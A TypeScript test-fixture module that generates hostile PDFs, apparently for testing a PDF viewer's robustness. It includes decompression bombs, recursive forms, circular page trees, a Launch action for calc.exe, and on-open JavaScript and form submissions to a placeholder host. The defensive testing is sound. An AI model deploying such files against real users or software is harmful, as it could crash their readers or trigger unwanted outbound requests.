import { deflateSync } from 'node:zlib'
import { rawPdf, type RawObject } from './raw-pdf.ts'

/** Nothing answers there; a request to it is what the tests look for. */
const ELSEWHERE = 'https://elsewhere.example'

const BOX = '/MediaBox [0 0 595 842]'
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const TEXT = 'BT /F 24 Tf 60 700 Td (A page to read) Tj ET'

/** A file of one page: catalogue 1, pages 2, page 3, font 4, content 5, then `more` from 6. */
function onePage(
  parts: { catalogue?: string; page?: string; resources?: string; content?: string; box?: string } = {},
  more: readonly RawObject[] = [],
): RawObject[] {
  const { catalogue = '', page = '', resources = '', content = TEXT, box = BOX } = parts
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R ${box} /Contents 5 0 R /Resources << /Font << /F 4 0 R >> ${resources} >> ${page} >>`,
    FONT,
    { dict: '', stream: content },
    ...more,
  ]
}

const form = (resources: string, stream: string): RawObject => ({
  dict: `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${resources} >>`,
  stream,
})

/** Forms that each draw the next ten times: a few hundred bytes that stand for 10^`levels` drawings. */
function nest(levels: number): Buffer {
  const ten = '/X Do '.repeat(10)
  const forms = Array.from({ length: levels }, (_, at) =>
    at === levels - 1
      ? form('', '0 0 10 10 re f 5 5 m 90 90 l S')
      : form(`/XObject << /X ${7 + at} 0 R >>`, ten),
  )
  return rawPdf(onePage({ resources: '/XObject << /X 6 0 R >>', content: ten }, forms))
}

function withActions(): Buffer {
  const actions = [
    `/S /URI /URI (${ELSEWHERE}/link)`,
    '/S /Launch /F (calc.exe)',
    `/S /GoToR /F (${ELSEWHERE}/other.pdf) /D [0 /Fit]`,
    `/S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >>`,
    '/S /JavaScript /JS (app.alert\\("clicked"\\))',
    '/S /URI /URI (javascript:alert\\(1\\))',
  ]
  const links = actions.map(
    (action, at) =>
      `<< /Type /Annot /Subtype /Link /Rect [60 ${600 - at * 60} 400 ${640 - at * 60}] /A << ${action} >> >>`,
  )
  return rawPdf(onePage({ page: `/Annots [${links.join(' ')}]` }))
}

const SCRIPT =
  '<< /S /JavaScript /JS (app.alert\\("open"\\); this.submitForm\\("https://elsewhere.example/js"\\)) >>'

/** Files that mean harm, by what they do. */
export const HOSTILE = {
  /** Structures that are not what they say. */
  structure: {
    'cut in half': () => rawPdf(onePage()).subarray(0, 330),
    'wrong offsets': () => rawPdf(onePage(), { offset: (offset) => offset + 11 }),
    'page tree in a circle': () =>
      rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] >>']),
    'no pages': () => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 0 /Kids [] >>']),
    'a hundred million pages': () =>
      rawPdf(onePage()).toString('latin1').replace('/Count 1', '/Count 100000000'),
    'outline in a circle': () =>
      rawPdf(
        onePage({ catalogue: '/Outlines 6 0 R' }, [
          '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
          '<< /Title (Again) /Parent 6 0 R /First 7 0 R /Next 7 0 R >>',
        ]),
      ),
    'a hundred thousand brackets': () =>
      rawPdf(onePage({ page: `/Nest ${'['.repeat(1e5)}${']'.repeat(1e5)}` })),
  },
  /** Pages that take more than there is. */
  weight: {
    'page of a hundred thousand points': () => rawPdf(onePage({ box: '/MediaBox [0 0 100000 100000]' })),
    'image of a hundred million points': () =>
      rawPdf(
        onePage(
          { resources: '/XObject << /I 6 0 R >>', content: `${TEXT} q 400 0 0 400 60 100 cm /I Do Q` },
          [
            {
              dict: '/Type /XObject /Subtype /Image /Width 10000 /Height 10000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
              stream: deflateSync(Buffer.alloc(1e8)),
            },
          ],
        ),
      ),
    'form that draws itself': () =>
      rawPdf(
        onePage({ resources: '/XObject << /X 6 0 R >>', content: `${TEXT} /X Do` }, [
          form('/XObject << /X 6 0 R >>', '/X Do /X Do'),
        ]),
      ),
    'states without end': () => rawPdf(onePage({ content: `${'q '.repeat(3e5)}${TEXT}` })),
    'font of five megabytes of nothing': () =>
      rawPdf(
        onePage({ resources: '/Font << /F 6 0 R >>' }, [
          '<< /Type /Font /Subtype /TrueType /BaseFont /Huge /FirstChar 0 /LastChar 255 /FontDescriptor 7 0 R >>',
          '<< /Type /FontDescriptor /FontName /Huge /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 8 0 R >>',
          { dict: '/Length1 2147483647', stream: Buffer.alloc(5e6, '\0\x01\0\0') },
        ]),
      ),
  },
  /** Files that want to act or to reach out. */
  active: {
    'script when opened': () =>
      rawPdf(onePage({ catalogue: `/OpenAction ${SCRIPT}`, page: `/AA << /O ${SCRIPT} >>` })),
    'links that act': withActions,
    'image from elsewhere': () =>
      rawPdf(
        onePage(
          { resources: '/XObject << /I 6 0 R >>', content: `${TEXT} q 400 0 0 400 60 100 cm /I Do Q` },
          [
            {
              dict: `/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${ELSEWHERE}/image) >>`,
              stream: '',
            },
          ],
        ),
      ),
    'dynamic form': () =>
      rawPdf(
        onePage({ catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>' }, [
          {
            dict: '',
            stream: `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><draw><value><image href="${ELSEWHERE}/xfa"/></value></draw><event activity="initialize"><script contentType="application/x-javascript">app.alert("xfa")</script></event></subform></template></xdp:xdp>`,
          },
        ]),
      ),
  },
} as const

/** A page whose drawing does not end, while its worker answers all the time. */
export const endless = (): Buffer => nest(12)

/** A plain page. */
export const harmless = (): Buffer => rawPdf(onePage())
